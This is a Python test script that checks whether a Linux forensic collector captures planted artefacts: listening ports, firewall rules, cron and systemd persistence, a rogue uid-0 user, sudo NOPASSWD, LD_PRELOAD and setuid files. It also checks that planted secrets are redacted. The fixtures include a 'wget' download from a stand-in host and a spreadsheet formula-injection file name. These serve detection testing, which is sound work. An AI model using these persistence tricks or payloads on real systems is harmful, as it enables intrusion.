"""Usage: collect_facts.py ZIP. Looks in a package for what collect_plant.py planted. Prints a line for each fact: `0 NAME` where it
holds, `1 NAME` where not."""
import csv
import hashlib
import io
import json
import sys
import zipfile

archive = zipfile.ZipFile(sys.argv[1])
manifest = json.loads(archive.read("manifest.json"))
NOW = "2023-11-14T22:13:20Z"
tables = {}


def table(name):
    if name not in tables:
        text = archive.read(name).decode("utf-8")
        rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
        tables[name] = [dict(zip(rows[0], row)) for row in rows[1:]]
    return tables[name]


def plain(field):
    """What a field was made of, by the rules of docs/package.md."""
    if field.startswith("'"):
        field = field[1:]
    out = bytearray()
    data = field.encode()
    at = 0
    while at < len(data):
        if data[at:at + 2] == b"\\x":
            out.append(int(data[at + 2:at + 4], 16))
            at += 4
        else:
            out.append(data[at])
            at += 1
    return bytes(out)


def fact(name, holds):
    try:
        held = bool(holds())
    except (KeyError, StopIteration, UnicodeDecodeError) as error:
        held = False
        name += f" ({error!r})"
    print(0 if held else 1, name)


def row(name, file, /, **wanted):
    """A row in which every one of these columns holds the text; `=` in front: is the text."""
    def matches(found):
        return all(found[column] == text[1:] if text.startswith("=") else text in found[column] for column, text in wanted.items())
    fact(name, lambda: any(matches(found) for found in table(file)))


def text(name, file, wanted):
    fact(name, lambda: wanted.encode() in archive.read(file))


net, proc, auto, users = "Network connections/", "Processes/", "Autoruns/", "Users and Groups/"
row("a port that is listened at, with who does", net + "connections.csv", local_port="=4444", state="LISTEN", process="python3", protocol="=tcp")
row("a datagram socket", net + "connections.csv", local_port="=5555", protocol="=udp", local_address="127.0.0.1")
row("an established connection", net + "connections.csv", remote_address="=10.77.0.1", remote_port="=22", state="ESTABLISHED", program="python3")
row("a port in another network namespace", net + "connections.csv", local_port="=6666", namespace="(", process="python3")
row("an abstract local socket", net + "unix_sockets.csv", path="planted-abstract", process="python3")
row("who listens on the wire", net + "packet_sockets.csv", process="python3", protocol="=0x0003")
row("a neighbour", net + "neighbours.csv", address="=172.31.9.7", mac="=02:00:5e:00:00:07", state="permanent")
row("an interface", net + "interfaces.csv", name="=planted0", kind="=veth", up="=yes")
row("an address", net + "addresses.csv", address="=172.31.9.1", prefix="=24")
row("a route", net + "routes.csv", to="=203.0.113.128", prefix="=25", type="=blackhole")
row("a firewall rule", net + "firewall.csv", kind="=rule", table="=planted", name="=planted_chain", text="(31337)")
row("its comment and verdict", net + "firewall.csv", text="drop; comment \"planted rule\"")
row("a chain with its hook", net + "firewall.csv", kind="=chain", table="=planted", text="hook input; priority 50; policy accept")
row("an element of a set", net + "firewall.csv", kind="=element", name="=blocked", text="(198.51.100.66)")
text("what is to be mounted, without its password", "System Information/fstab.txt", "username=ada,password=***")
text("a name of its own", net + "hosts", "203.0.113.66 planted-host.example")
row("a proxy without its password", net + "proxies.csv", path="=/etc/environment", text="http://***@proxy.planted.example:3128/")



def hosts(collector):
    """The mount namespaces of the plugin hosts that are the collector's, or that are not."""
    return {found["mount_namespace"] for found in table(proc + "processes.csv")
            if found["program"].endswith("/cordon-plugin-host") and ("org.cordon.linux.collect" in found["command"]) == collector}


fact("the collector alone has mounts of its own", lambda: len(hosts(True)) == 1 and not hosts(True) & hosts(False) and hosts(False) == {
    found["mount_namespace"] for found in table(proc + "processes.csv") if found["program"].endswith("/cordond")})
fact("a program that runs, read", lambda: [len(found["program_sha256"]) for found in table(proc + "processes.csv")
                                           if found["program"] == "/var/tmp/planted-sleeper"] == [64])
row("a program that was deleted and runs", proc + "processes.csv", program="/var/tmp/planted/deleted-program", program_deleted="=yes", command="10000")
row("a program that is only in memory", proc + "processes.csv", program="planted-memory", program_in_memory="=yes", command="planted-memfd")
row("a library that is loaded before others", proc + "processes.csv", command="sleep 10001", loader_environment="LD_PRELOAD=/var/tmp/planted/none.so")
row("a process of a user", proc + "processes.csv", command="sleep 10003", user="=ada", uid="=2101", group="=ada")
row("a program of a package", proc + "programs.csv", path="=/usr/bin/sleep", in_package="=yes", package="coreutils")
row("a program of a package of rpm", proc + "programs.csv", path="=/opt/planted/rpm-program", in_package="=yes", package="=planted-rpm")
row("a program of no package", proc + "programs.csv", path="/var/tmp/planted/deleted-program", in_package="=no")
fact("hashes of programs", lambda: len({r["program_sha256"] for r in table(proc + "processes.csv") if "sleep 1000" in r["command"]} - {""}) == 1)
fact("the hash of a program in memory is that of the file it was made of", lambda: next(
    r for r in table(proc + "processes.csv") if r["program_in_memory"] == "yes")["program_sha256"] == next(
    r for r in table(proc + "processes.csv") if r["command"] == "sleep 10003")["program_sha256"])
fact("nothing hides", lambda: table(proc + "hidden_processes.csv") == [])

row("a user", users + "users.csv", name="=ada", uid="=2101", description='Ada, "the" first', shell="=/bin/bash")
row("the state and method of a password", users + "users.csv", name="=ada", password="=set", password_method="=SHA-512", password_max_days="=90")
row("a second user with the number 0", users + "users.csv", name="=toor", uid="=0", password="=locked")
row("the last login of a user", users + "users.csv", name="=ada", last_login="=" + NOW, last_login_from="=lastlog.host")
row("a group", users + "groups.csv", name="=planted-group", members="=ada,toor")
row("a user in the file of a group", users + "group planted-group.csv", user="=ada", uid="=2101", membership="=listed")
row("what sudo lets them", users + "sudoers.csv", path="=/etc/sudoers.d/planted", text="NOPASSWD: /bin/planted")
row("what doas lets them", users + "sudoers.csv", path="=/etc/doas.conf", text="permit nopass ada")
row("who is logged in", users + "logged_in.csv", user="=ada", line="=pts/9", address="=192.0.2.77")
row("a session", users + "sessions.csv", session="=77", user="=ada", remote_host="=203.0.113.5")

row("a service with its command", auto + "systemd_units.csv", unit="=planted.service", kind="=unit", command="/opt/planted/run    --twice")
row("that it is wanted", auto + "systemd_units.csv", unit="=planted.service", kind="=wants", target="=multi-user.target")
row("a drop-in", auto + "systemd_units.csv", kind="=drop-in", unit="=ssh.service", command="/opt/planted/drop-in")
row("a masked unit", auto + "systemd_units.csv", kind="=masked", unit="=masked-by-planted.service")
row("a unit of a user", auto + "systemd_units.csv", unit="=ada-planted.service", user="=ada")
row("a line of a shell's start", auto + "shell_startup.csv", user="=ada", path="=/home/ada/.bashrc", text="/opt/planted/ls")
row("a profile", auto + "shell_startup.csv", path="=/etc/profile.d/planted.sh", text="PLANTED_PROFILE")
row("what runs at a login by ssh", auto + "shell_startup.csv", path="=/home/ada/.ssh/rc", text="planted-ssh-rc")
row("where libraries are looked for", auto + "loader.csv", path="=/etc/ld.so.conf.d/planted.conf", text="/opt/planted/lib")
row("what runs for a kernel module", auto + "module_settings.csv", text="/opt/planted/modprobe")
row("a module that is loaded at boot", auto + "module_settings.csv", path="=/etc/modules-load.d/planted.conf", text="planted_module")
row("what runs for a device", auto + "udev_rules.csv", text="/opt/planted/udev")
row("what runs at a login", auto + "pam.csv", path="=/etc/pam.d/planted", text="pam_exec.so /opt/planted/pam")
row("what a desktop starts", auto + "desktop_autostart.csv", text="Exec=/opt/planted/desktop")
row("what a user's desktop starts", auto + "desktop_autostart.csv", user="=ada", text="/home/ada/desktop-planted")
row("the script of the boot", auto + "init_scripts.csv", path="=/etc/rc.local", mode="=0755")
row("a script of System V", auto + "init_scripts.csv", path="=/etc/init.d/planted")
row("what apt runs", auto + "package_hooks.csv", text="/opt/planted/apt")
row("an authorized key, its fingerprint and command", auto + "authorized_keys.csv", user="=ada", comment="=ada@planted",
    fingerprint="=SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU", options="/bin/planted, x")
row("a setting of sshd", auto + "sshd_settings.csv", text="PermitRootLogin yes")
fact("that the kernel has no modules, or which", lambda: any(n.startswith(auto + "kernel_modules.csv") for n in archive.namelist()))

row("a service that is enabled", "Services/services.csv", unit="=planted.service", enabled="=enabled", runs_as="=ada", description="=A planted service")
text("that the message bus knows no systemd", "Services/units.csv.absent.txt", "there is no systemd on the system's message bus")
row("a job of cron", "Scheduled tasks/cron.csv", path="=/etc/cron.d/planted", user="=ada", schedule="=*/7 * * * *", command="/opt/planted/cron --a,b")
row("a crontab of a user", "Scheduled tasks/cron.csv", user="=ada", schedule="@reboot", command="/home/ada/cron-planted")
row("a daily script", "Scheduled tasks/cron.csv", path="=/etc/cron.daily/planted", kind="=script")
row("a line of anacron", "Scheduled tasks/anacron.csv", text="/opt/planted/anacron")
row("a job of at", "Scheduled tasks/at_jobs.csv", text="/opt/planted/at")
row("a timer, what it starts and when it did", "Scheduled tasks/timers.csv", timer="=planted.timer", enabled="=enabled", schedule="OnCalendar=*:0/5",
    starts="=planted.service", command="/opt/planted/run", last_run="=" + NOW)

row("a package", "Installed programs/programs.csv", manager="=dpkg", name="=planted-package", version="=6.6.6-1", maintainer="eve@planted.example")
row("a package of rpm", "Installed programs/programs.csv", manager="=rpm", name="=planted-rpm", version="=7.7-1.el9", installed="=" + NOW)
text("when it was installed", "Installed programs/dpkg.log", "install planted-package:all")
row("a line of a history with its time", "Prefetch files/shell_history.csv", user="=ada", text="wget http://planted.example/x.sh", time="=" + NOW)
row("a line of another shell's", "Prefetch files/shell_history.csv", text="=zsh-planted --x", time="2023-11-14T22:13:21Z")
row("a document that was opened", "Prefetch files/recently_used.csv", user="=ada", document="planted%20doc.odt", command="soffice")
row("a start in the audit log", "Prefetch files/audit_execve.csv", program="=/opt/planted/audited", pid="=777", login_uid="=2101")
row("its words", "Prefetch files/audit_execve.csv", kind="=command", command="audited --a b,c")
row("a record of accounting", "Prefetch files/accounting.csv", command="=acct-planted", pid="=888", started="=" + NOW)
row("a program and when it was read", "Prefetch files/executables.csv", path="=/usr/bin/sleep", last_read="20")

log = "Security event log/"
row("a login", log + "logins.csv", user="=ada", line="=pts/8", **{"from": "=wtmp.host"}, time="=" + NOW)
row("a login that failed", log + "failed_logins.csv", user="=mallory", address="=198.51.100.9")
row("the last login", log + "last_logins.csv", user="=ada", line="=pts/7")
text("the log of logins", log + "auth.log", "planted-user")
text("its older part", log + "auth.log.1", "an older part")
fact("a file of the journal, whole", lambda: archive.read(log + "system.journal") == b"LPKSHHRH planted journal".ljust(4096))
text("that a log which is a link to hashes is not taken", log + "kern.log.denied.txt", "secrets are never taken")
fact("the kernel's log", lambda: len(archive.read(log + "kernel.log")) > 100)

smb = "Windows Server Message Block (SMB) sessions/"
row("a session of SMB from another device", smb + "SMBInboundSessions.csv", kind="=smb", local_port="=445", remote_address="10.77.0.12")
fact("mounts from elsewhere, or that there are none", lambda: table(smb + "SMBOutboundSession.csv") or b"none" in archive.read(smb + "SMBOutboundSession.txt"))
row("what the kernel is tainted by", "System Information/system.csv", name="=kernel tainted by", value="unsigned module")
row("the distribution", "System Information/system.csv", name="=os-release ID", value="debian")
row("what is mounted", "System Information/mounts.csv", point="=/tmp/hangs", type="=fuse")
row("with its own options", "System Information/mounts.csv", point="=/", options="relatime")
fact("and with none of the collector's", lambda: not any("noatime" in found["options"] for found in table("System Information/mounts.csv")))
row("a setting of the kernel", "System Information/sysctl.csv", name="=kernel/randomize_va_space",
    value="=" + open("/proc/sys/kernel/randomize_va_space", encoding="ascii").read().strip())

temp = "Temp Directories/"
row("a setuid file", temp + "tmp.csv", path="=/tmp/planted-setuid", setuid="=yes", kind="=ELF", mode="=4755")
row("its hash", temp + "tmp.csv", path="=/tmp/planted-setuid", sha256="=" + hashlib.sha256(b"\x7fELF planted").hexdigest())
row("a script and its attributes", temp + "var_tmp.csv", path="=/var/tmp/planted-script", kind="=script", attributes="user.planted")
row("an archive in memory", temp + "dev_shm.csv", path="=/dev/shm/planted-shm", kind="=zip")
row("where a link leads", temp + "tmp.csv", path="=/tmp/planted-link", type="=link", link_target="=/etc/shadow", sha256="=")
row("a fifo, unread", temp + "tmp.csv", path="=/tmp/planted-fifo", type="=fifo", sha256="=")
HOSTILE = {"a line feed": b"new\nline", "a comma": b"com,ma", "a quote": b"quo\"te", "a formula": b"=cmd|'/c calc'!A1",
           "what is no UTF-8": b"bad\xffutf8", "what looks like an escape": b"back\\x41slash"}
for title, name in HOSTILE.items():
    fact(f"a file whose name holds {title}", lambda: any(plain(found["path"]) == b"/tmp/" + name for found in table(temp + "tmp.csv")))
fact("each of three thousand files", lambda: sum(found["path"].startswith("/tmp/many/") for found in table(temp + "tmp.csv")) == 3000)
fact("that a file system that hangs was not touched", lambda: next(
    i for i in manifest["items"] if i["name"] == temp + "tmp.csv")["error"].startswith("/tmp/hangs: it is on a file system of type fuse"))

text("the log of an antivirus product", "WdSupportLogs/clamav_log_clamav.log", "Planted.Signature FOUND")
row("its signatures", "WdSupportLogs/clamav_signatures.csv", file="=planted.cvd", version="=4711")
text("its settings without passwords", "WdSupportLogs/clamav_conf_freshclam.conf", "HTTPProxyPassword ***")

everything = b"".join(archive.read(n) for n in archive.namelist())
for secret in (b"PLANTEDHASHPLANTEDHASH", b"PLANTEDPRIVATEKEY", b"PLANTEDENVIRONMENT", b"PLANTEDPROXYPASSWORD"):
    fact(f"no {secret.decode()}", lambda: secret not in everything)
fact("every item ended well, or says why", lambda: all(i["error"] for i in manifest["items"] if i["status"] != "ok"))
fact("nothing failed but what was refused", lambda: [
    i["item"] for i in manifest["items"] if i["status"] in ("denied", "error")] == ["kern.log"])
